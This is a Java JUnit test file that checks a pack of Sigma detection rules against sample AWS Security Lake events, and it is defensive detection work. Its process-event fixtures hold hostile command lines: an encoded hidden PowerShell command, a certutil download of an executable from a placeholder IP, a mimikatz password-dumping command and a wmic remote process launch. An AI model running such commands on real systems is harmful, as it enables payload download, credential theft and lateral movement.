package io.securitylake.subscriber.detect;

import static io.securitylake.subscriber.detect.OcsfEvent.cloudTrail;
import static io.securitylake.subscriber.detect.OcsfEvent.consoleLogin;
import static io.securitylake.subscriber.detect.OcsfEvent.dns;
import static io.securitylake.subscriber.detect.OcsfEvent.process;
import static io.securitylake.subscriber.detect.OcsfEvent.vpcFlow;
import static org.assertj.core.api.Assertions.assertThat;

import io.securitylake.subscriber.sigma.SigmaCorrelation;
import io.securitylake.subscriber.sigma.SigmaRule;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every rule of the starter pack on realistic Security Lake events (OCSF 1.1 as Security Lake 2.0 writes them,
 * and 1.0 where the names differ): each fires on its positive case and stays silent on its negative one, and no
 * other rule of the pack fires on a case that is not meant for it. Each correlation of the pack fires on its positive
 * sequence of events and stays silent on its negative ones.
 */
class StarterPackTest {

    private static final RuleBook PACK = StarterPack.load();
    private static final String SG_REQUEST = "{\"groupId\":\"sg-0a1b2c3d\",\"ipPermissions\":{\"items\":[{\"ipProtocol\":\"tcp\","
            + "\"fromPort\":22,\"toPort\":22,\"ipRanges\":{\"items\":[{\"cidrIp\":\"%s\"}]}}]}}";

    static Stream<Arguments> cases() {
        return Stream.of(
                // rule, case, event, fires
                Arguments.of("aws-root-account-use", "root calls DescribeInstances",
                        cloudTrail("DescribeInstances", "ec2.amazonaws.com").set("actor.user.type", "Root"), true),
                Arguments.of("aws-root-account-use", "an AWS service event attributed to root",
                        cloudTrail("KeyRotation", "kms.amazonaws.com").set("actor.user.type", "Root").set("unmapped.eventType", "AwsServiceEvent"), false),
                Arguments.of("aws-console-login-without-mfa", "OCSF 1.1 is_mfa false",
                        consoleLogin().set("is_mfa", false), true),
                Arguments.of("aws-console-login-without-mfa", "OCSF 1.0 mfa false, as the real 1.0 fixture",
                        consoleLogin().set("mfa", false).set("metadata.version", "1.0.0-rc.2").set("class_uid", 3002), true),
                Arguments.of("aws-console-login-without-mfa", "login with MFA",
                        consoleLogin().set("is_mfa", true).set("unmapped.additionalEventData.MFAUsed", "Yes"), false),
                Arguments.of("aws-console-login-failed", "failed console login",
                        consoleLogin().set("status", "Failure").set("status_id", 2).set("api.response.message", "Failed authentication").set("is_mfa", true), true),
                Arguments.of("aws-console-login-failed", "successful login",
                        consoleLogin().set("is_mfa", true), false),
                Arguments.of("aws-iam-user-created", "CreateUser",
                        cloudTrail("CreateUser", "iam.amazonaws.com").set("class_uid", 3001), true),
                Arguments.of("aws-iam-user-created", "GetUser",
                        cloudTrail("GetUser", "iam.amazonaws.com"), false),
                Arguments.of("aws-iam-access-key-created", "CreateAccessKey",
                        cloudTrail("CreateAccessKey", "iam.amazonaws.com"), true),
                Arguments.of("aws-iam-access-key-created", "CreateAccessKey denied",
                        cloudTrail("CreateAccessKey", "iam.amazonaws.com").set("api.response.error", "AccessDenied").set("status", "Failure"), false),
                Arguments.of("aws-iam-policy-changed", "AttachRolePolicy",
                        cloudTrail("AttachRolePolicy", "iam.amazonaws.com"), true),
                Arguments.of("aws-iam-policy-changed", "ListAttachedRolePolicies",
                        cloudTrail("ListAttachedRolePolicies", "iam.amazonaws.com"), false),
                Arguments.of("aws-iam-mfa-device-removed", "DeactivateMFADevice",
                        cloudTrail("DeactivateMFADevice", "iam.amazonaws.com"), true),
                Arguments.of("aws-iam-mfa-device-removed", "EnableMFADevice",
                        cloudTrail("EnableMFADevice", "iam.amazonaws.com"), false),
                Arguments.of("aws-cloudtrail-stop-logging", "StopLogging",
                        cloudTrail("StopLogging", "cloudtrail.amazonaws.com"), true),
                Arguments.of("aws-cloudtrail-stop-logging", "StartLogging",
                        cloudTrail("StartLogging", "cloudtrail.amazonaws.com"), false),
                Arguments.of("aws-cloudtrail-delete-trail", "DeleteTrail",
                        cloudTrail("DeleteTrail", "cloudtrail.amazonaws.com"), true),
                Arguments.of("aws-cloudtrail-delete-trail", "DescribeTrails",
                        cloudTrail("DescribeTrails", "cloudtrail.amazonaws.com"), false),
                Arguments.of("aws-cloudtrail-update-trail", "PutEventSelectors",
                        cloudTrail("PutEventSelectors", "cloudtrail.amazonaws.com"), true),
                Arguments.of("aws-cloudtrail-update-trail", "GetEventSelectors",
                        cloudTrail("GetEventSelectors", "cloudtrail.amazonaws.com"), false),
                Arguments.of("aws-security-group-open-to-world", "SSH from 0.0.0.0/0 (api.request.data as JSON text)",
                        cloudTrail("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com").set("api.request.data", SG_REQUEST.formatted("0.0.0.0/0")), true),
                Arguments.of("aws-security-group-open-to-world", "SSH from 0.0.0.0/0 (OCSF 1.0, flattened in unmapped)",
                        cloudTrail("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com")
                                .set("unmapped.requestParameters.ipPermissions.items[].ipRanges.items[].cidrIp", "0.0.0.0/0"), true),
                Arguments.of("aws-security-group-open-to-world", "SSH from a documentation network",
                        cloudTrail("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com").set("api.request.data", SG_REQUEST.formatted("203.0.113.0/24")), false),
                Arguments.of("aws-s3-bucket-policy-public", "policy with Principal *",
                        cloudTrail("PutBucketPolicy", "s3.amazonaws.com").set("api.request.data",
                                "{\"bucketName\":\"example-logs\",\"bucketPolicy\":{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\"}]}}"), true),
                Arguments.of("aws-s3-bucket-policy-public", "policy for one account",
                        cloudTrail("PutBucketPolicy", "s3.amazonaws.com").set("api.request.data",
                                "{\"bucketName\":\"example-logs\",\"bucketPolicy\":{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111111111111:root\"}}]}}"), false),
                Arguments.of("aws-s3-public-access-block-removed", "DeleteBucketPublicAccessBlock",
                        cloudTrail("DeleteBucketPublicAccessBlock", "s3.amazonaws.com"), true),
                Arguments.of("aws-s3-public-access-block-removed", "PutBucketPublicAccessBlock",
                        cloudTrail("PutBucketPublicAccessBlock", "s3.amazonaws.com"), false),
                Arguments.of("aws-kms-key-deletion-scheduled", "ScheduleKeyDeletion",
                        cloudTrail("ScheduleKeyDeletion", "kms.amazonaws.com"), true),
                Arguments.of("aws-kms-key-deletion-scheduled", "Decrypt",
                        cloudTrail("Decrypt", "kms.amazonaws.com"), false),
                Arguments.of("aws-access-denied", "denied call",
                        cloudTrail("GetBucketAcl", "s3.amazonaws.com").set("api.response.error", "AccessDenied").set("status", "Failure"), true),
                Arguments.of("aws-access-denied", "throttled call",
                        cloudTrail("GetBucketAcl", "s3.amazonaws.com").set("api.response.error", "ThrottlingException").set("status", "Failure"), false),
                Arguments.of("aws-guardduty-disabled", "DeleteDetector",
                        cloudTrail("DeleteDetector", "guardduty.amazonaws.com"), true),
                Arguments.of("aws-guardduty-disabled", "ListDetectors",
                        cloudTrail("ListDetectors", "guardduty.amazonaws.com"), false),
                Arguments.of("aws-config-recorder-stopped", "StopConfigurationRecorder",
                        cloudTrail("StopConfigurationRecorder", "config.amazonaws.com"), true),
                Arguments.of("aws-config-recorder-stopped", "StartConfigurationRecorder",
                        cloudTrail("StartConfigurationRecorder", "config.amazonaws.com"), false),
                Arguments.of("aws-flow-logs-deleted", "DeleteFlowLogs",
                        cloudTrail("DeleteFlowLogs", "ec2.amazonaws.com"), true),
                Arguments.of("aws-flow-logs-deleted", "CreateFlowLogs",
                        cloudTrail("CreateFlowLogs", "ec2.amazonaws.com"), false),
                Arguments.of("aws-vpcflow-rare-port", "accepted to 4444",
                        vpcFlow(4444, 1), true),
                Arguments.of("aws-vpcflow-rare-port", "blocked to 4444",
                        vpcFlow(4444, 2), false),
                Arguments.of("aws-vpcflow-rare-port", "accepted to 443",
                        vpcFlow(443, 1), false),
                Arguments.of("aws-route53-long-label", "60-character label",
                        dns("a9f3c2e1b0d4a9f3c2e1b0d4a9f3c2e1b0d4a9f3c2e1b0d4a9f3c2e1b0d4.tunnel.example.com."), true),
                Arguments.of("aws-route53-long-label", "ordinary host name",
                        dns("ip-10-0-1-20.ec2.internal."), false),
                Arguments.of("aws-route53-abused-tld", "query for a .zip host",
                        dns("update-service.zip."), true),
                Arguments.of("aws-route53-abused-tld", ".zip in the middle of a name",
                        dns("zip.corp.example.com."), false),
                Arguments.of("crowdstrike-encoded-powershell", "-EncodedCommand",
                        process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"), true),
                Arguments.of("crowdstrike-encoded-powershell", "a script file",
                        process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory.ps1"), false),
                Arguments.of("crowdstrike-lolbin-download", "certutil -urlcache",
                        process("C:\\Windows\\System32\\certutil.exe",
                                "certutil.exe -urlcache -split -f http://198.51.100.23/update/a1.bin C:\\Users\\Public\\Libraries\\a1.exe"), true),
                Arguments.of("crowdstrike-lolbin-download", "certutil dumping a certificate",
                        process("C:\\Windows\\System32\\certutil.exe", "certutil.exe -dump C:\\certs\\root.cer"), false),
                Arguments.of("crowdstrike-credential-dumping", "mimikatz command line",
                        process("C:\\Users\\alice\\Downloads\\m64.exe", "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"), true),
                Arguments.of("crowdstrike-credential-dumping", "ordinary program",
                        process("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"), false),
                Arguments.of("crowdstrike-remote-wmi-process", "wmic on another node",
                        process("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.0.8.9 /user:CORP\\alice process call create \"cmd.exe /c C:\\Users\\Public\\x.exe\""), true),
                Arguments.of("crowdstrike-remote-wmi-process", "local wmic query",
                        process("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic os get caption"), false));
    }

    /** Correlations: a sequence of events, all in one window of the correlation, and whether it fires. */
    static Stream<Arguments> correlationCases() {
        return Stream.of(
                Arguments.of("aws-console-login-burst", "five failures for alice from one address",
                        repeat(5, i -> failedLogin("alice", "198.51.100.7")), true),
                Arguments.of("aws-console-login-burst", "four failures, then a success",
                        Stream.concat(repeat(4, i -> failedLogin("alice", "198.51.100.7")).stream(),
                                Stream.of(consoleLogin().set("is_mfa", true))).toList(), false),
                Arguments.of("aws-console-login-burst", "five failures from five addresses (the spraying is other rules' matter)",
                        repeat(5, i -> failedLogin("alice", "198.51.100." + i)), false),
                Arguments.of("aws-access-denied-burst", "twenty denied calls by one role",
                        repeat(20, i -> denied("arn:aws:sts::111111111111:assumed-role/ci/build")), true),
                Arguments.of("aws-access-denied-burst", "twenty denied calls by twenty principals",
                        repeat(20, i -> denied("arn:aws:iam::111111111111:user/u" + i)), false),
                Arguments.of("aws-vpcflow-port-scan", "one address refused on 25 ports",
                        repeat(25, i -> vpcFlow(1000 + i, 2)), true),
                Arguments.of("aws-vpcflow-port-scan", "one address refused 100 times on 24 ports",
                        repeat(100, i -> vpcFlow(1000 + i % 24, 2)), false),
                Arguments.of("aws-vpcflow-port-scan", "one address accepted on 40 ports (replies to a client)",
                        repeat(40, i -> vpcFlow(40000 + i, 1)), false));
    }

    private static OcsfEvent failedLogin(String user, String ip) {
        return consoleLogin().set("status", "Failure").set("status_id", 2).set("api.response.message", "Failed authentication")
                .set("actor.user.name", user).set("src_endpoint.ip", ip);
    }

    private static OcsfEvent denied(String arn) {
        return cloudTrail("ListSecrets", "secretsmanager.amazonaws.com").set("actor.user.uid_alt", arn)
                .set("api.response.error", "AccessDenied").set("status", "Failure");
    }

    private static List<OcsfEvent> repeat(int n, java.util.function.IntFunction<OcsfEvent> event) {
        return java.util.stream.IntStream.range(0, n).mapToObj(event).toList();
    }

    @ParameterizedTest(name = "{0}: {1} → {3}")
    @MethodSource("correlationCases")
    void eachCorrelationFiresOnItsPositiveSequenceOnly(String correlation, String what, List<OcsfEvent> events, boolean fires) {
        Set<String> fired = firedCorrelations(events);

        if (fires) {
            assertThat(fired).as("correlations fired").contains(correlation);
        } else {
            assertThat(fired).as("correlations fired").doesNotContain(correlation);
        }
    }

    /** The correlations whose condition holds for some group of these events (one window, counted as the store does). */
    private static Set<String> firedCorrelations(List<OcsfEvent> events) {
        RuleBook.Snapshot inForce = PACK.inForce();
        Map<SigmaCorrelation, Map<String, Set<String>>> counted = new java.util.HashMap<>();
        for (int i = 0; i < events.size(); i++) {
            String uid = "ev-" + i;
            Map<String, Object> event = events.get(i).map();
            inForce.forEachMatch(event, rule -> {
                for (SigmaCorrelation c : inForce.correlationsOf(rule)) {
                    CorrelationTable.Hit hit = Correlator.hit(c, event, uid, 1_764_460_800_000L);
                    if (hit != null) {
                        counted.computeIfAbsent(c, k -> new java.util.HashMap<>()).computeIfAbsent(hit.groupKey(),
                                k -> new HashSet<>()).add(c.valueField() == null ? uid : hit.value());
                    }
                }
            });
        }
        Set<String> fired = new HashSet<>();
        counted.forEach((c, groups) -> groups.values().forEach(distinct -> {
            if (c.condition().holds(distinct.size())) {
                fired.add(c.uid());
            }
        }));
        return fired;
    }

    @ParameterizedTest(name = "{0}: {1} → {3}")
    @MethodSource("cases")
    void eachRuleFiresOnItsPositiveCaseOnly(String rule, String what, OcsfEvent event, boolean fires) {
        Set<String> fired = PACK.rules().stream().filter(r -> r.raises() && r.matches(event.map())).map(SigmaRule::uid)
                .collect(Collectors.toSet());

        if (fires) {
            assertThat(fired).as("rules fired").contains(rule);
        } else {
            assertThat(fired).as("rules fired").doesNotContain(rule);
        }
    }

    @Test
    void thePackHasAtLeastTwentyRulesAllLoadedAndEachHasAPositiveAndANegativeCase() {
        assertThat(PACK.refused()).isEmpty();
        Set<String> positive = new HashSet<>();
        Set<String> negative = new HashSet<>();
        Stream.concat(cases(), correlationCases()).forEach(a -> ((Boolean) a.get()[3] ? positive : negative).add((String) a.get()[0]));
        List<String> uids = PACK.active().stream().map(RuleBook.RuleInfo::uid).toList();
        assertThat(uids).hasSizeGreaterThanOrEqualTo(20).contains("aws-console-login-burst", "aws-access-denied-burst",
                "aws-vpcflow-port-scan");
        assertThat(positive).containsExactlyInAnyOrderElementsOf(uids);
        assertThat(negative).containsExactlyInAnyOrderElementsOf(uids);
    }

    @Test
    void everyRuleHasALevelAndAtLeastOneAttackTag() {
        for (SigmaRule rule : PACK.rules().stream().filter(SigmaRule::raises).toList()) {
            assertThat(rule.attackTags()).as(rule.uid()).isNotEmpty();
            assertThat(rule.severityId()).as(rule.uid()).isBetween(1, 5);
        }
        for (SigmaCorrelation c : PACK.correlations()) {
            assertThat(c.attackTags()).as(c.uid()).isNotEmpty();
            assertThat(c.severityId()).as(c.uid()).isBetween(1, 5);
        }
    }

    @Test
    void anEventOfADifferentSourceWithTheSameFieldValuesDoesNotFire() {
        Map<String, Object> notCloudTrail = cloudTrail("StopLogging", "cloudtrail.amazonaws.com")
                .set("metadata.product.name", "Amazon EKS").map();

        assertThat(PACK.rules().stream().filter(r -> r.matches(notCloudTrail))).isEmpty();
    }
}
